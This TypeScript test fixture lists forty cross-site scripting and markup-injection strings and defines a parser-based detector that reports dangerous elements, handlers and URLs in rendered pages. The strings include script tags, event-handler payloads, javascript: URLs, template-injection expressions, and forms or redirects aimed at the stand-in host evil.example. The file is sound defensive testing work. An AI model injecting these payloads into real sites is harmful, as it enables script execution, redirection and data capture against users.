/** Forty texts that would do harm if a page took them for markup, addresses or directions of writing; and whether one did. */

import { Parser } from 'htmlparser2'

export const hostileStrings: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '"><img src=x onerror=alert(3)>',
  `'><svg onload=alert(4)>`,
  '<svg><script>alert(5)</script></svg>',
  '<iframe src="javascript:alert(6)"></iframe>',
  'javascript:alert(7)',
  'JaVaScRiPt:alert(8)',
  'data:text/html,<script>alert(9)</script>',
  'vbscript:msgbox(10)',
  '<a href="javascript:alert(11)">x</a>',
  '[x](javascript:alert(12))',
  '![x](https://tracker.example/pixel.png)',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="q"></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<math><mi xlink:href="javascript:alert(21)">x</mi></math>',
  '<details open ontoggle=alert(22)>',
  '<body onload=alert(23)>',
  '<input autofocus onfocus=alert(24)>',
  '<video><source onerror="alert(25)"></video>',
  '<template><script>alert(26)</script></template>',
  '<!-- --><script>alert(27)</script>',
  '<![CDATA[<script>alert(28)</script>]]>',
  '&lt;script&gt;alert(29)&lt;/script&gt;',
  '&#60;script&#62;alert(30)&#60;/script&#62;',
  '\u202Egnp.exe\u202C',
  '\u2066hidden\u2069',
  '${alert(33)}',
  '{{constructor.constructor("alert(34)")()}}',
  '`${alert(35)}`',
  '<img src="x" srcset="https://evil.example/y 2x">',
  '<a href="//evil.example">x</a>',
  '<p style="position:fixed;inset:0">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(39)>">',
  '\u0000<script>alert(40)</script>'.replace('\u0000', ''),
]

/** Addresses that a page of the tests may load, send forms to or go on to by itself. */
const own = /^(?:[^:]*$|http:\/\/(?:localhost:8080|127\.0\.0\.1))/
/** What no page has. */
const forbidden = new Set([
  'iframe',
  'object',
  'embed',
  'base',
  'style',
  'template',
  'math',
  'video',
])
const runs = /^\s*(?:javascript|data|vbscript):/i

/** What markup could do: elements that run or load something, attributes that run something, addresses that do. */
export function harmIn(page: string): string[] {
  const found: string[] = []
  const attributeHarm = (key: string, value: string): boolean =>
    key.startsWith('on') ||
    key === 'style' ||
    key === 'srcset' ||
    (['href', 'xlink:href', 'src', 'action', 'formaction'].includes(key) &&
      (runs.test(value) || value.startsWith('//')))
  const elementHarm = (name: string, of: Readonly<Record<string, string>>): boolean =>
    forbidden.has(name) ||
    name === 'img' ||
    (name === 'script' && of['type'] !== 'application/ld+json' && !own.test(of['src'] ?? ':')) ||
    (name === 'form' && !own.test(of['action'] ?? '')) ||
    (name === 'link' && of['rel'] === 'stylesheet' && !own.test(of['href'] ?? ':')) ||
    (name === 'meta' && of['http-equiv'] !== undefined && !/^\d+$/.test(of['content'] ?? ''))
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (elementHarm(name, attributes)) found.push(`${name} ${JSON.stringify(attributes)}`)
      for (const [key, value] of Object.entries(attributes))
        if (attributeHarm(key, value)) found.push(`${name} ${key}=${value}`)
    },
  })
  parser.write(page)
  parser.end()
  return found
}
